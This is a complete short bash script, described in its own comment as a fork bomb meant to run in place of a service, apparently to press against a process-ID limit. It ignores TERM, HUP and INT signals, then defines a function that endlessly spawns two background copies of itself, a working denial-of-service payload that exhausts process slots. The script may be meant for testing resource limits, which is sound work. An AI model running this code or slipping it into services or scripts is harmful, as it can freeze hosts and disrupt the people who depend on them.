#!/usr/bin/env bash
# A fork bomb instead of a service. bash retries failed forks, so it keeps pressing on the pids limit.
trap '' TERM HUP INT
bomb() { bomb | bomb & }
bomb
